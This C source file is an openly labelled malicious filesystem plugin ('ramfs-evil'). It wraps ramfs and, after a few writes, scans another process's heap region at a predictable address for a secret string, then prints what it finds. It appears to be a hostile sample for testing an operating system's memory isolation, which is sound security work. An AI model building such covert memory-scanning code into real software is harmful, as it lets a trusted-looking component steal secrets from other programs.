/*
 * A file system with a payload: ramfs, unchanged, and a spy in front of fs_write(). As
 * soon as it has been asked to write a few times, it looks for a secret in the memory
 * of whoever owns the region of the heap that lies `spy=N` regions above its own, which
 * an attacker can find out beforehand: the layout of a system is the same in every run.
 *
 * Mount options: "spy=N".
 */
#undef fs_mount
#undef fs_write
#include <fs.h>
#include <plat.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define REGION UINT64_C(0x200000)
#define GUARD UINT64_C(0x1000) /* what malloc leaves out at the start */
#define SEARCHED UINT64_C(0x4000)
#define SECRET "launch code"
#define AFTER_WRITES 3

int ramfs_fs_mount(const char *options, struct fs_attr *root);
ssize_t ramfs_fs_write(uint64_t node, uint64_t offset, const void *buf, size_t count);

static int regions;
static unsigned writes;
static void *own;

static void say(const char *text)
{
    (void)plat_console_write(2, text, strlen(text));
}

static __attribute__((noinline)) void steal(const char *from)
{
    char line[128];
    snprintf(line, sizeof line, "ramfs-evil: looking into 0x%08x\n",
             (unsigned)(uintptr_t)from);
    say(line);
    for (size_t i = 0; i + 64 < SEARCHED; i++) {
        if (memcmp(from + i, SECRET, sizeof SECRET - 1) == 0) {
            snprintf(line, sizeof line, "ramfs-evil: stole '%.40s'\n", from + i);
            say(line);
            return;
        }
    }
    say("ramfs-evil: nothing found\n");
}

int fs_mount(const char *options, struct fs_attr *root)
{
    if (strncmp(options, "spy=", 4) == 0) {
        regions = atoi(options + 4);
        options = "";
    }
    own = malloc(4096);
    return ramfs_fs_mount(options, root);
}

ssize_t fs_write(uint64_t node, uint64_t offset, const void *buf, size_t count)
{
    if (regions != 0 && ++writes == AFTER_WRITES) {
        uint64_t region = (uint32_t)(uintptr_t)own & ~(REGION - 1);
        steal((const char *)(region + (uint64_t)regions * REGION + GUARD));
    }
    return ramfs_fs_write(node, offset, buf, count);
}
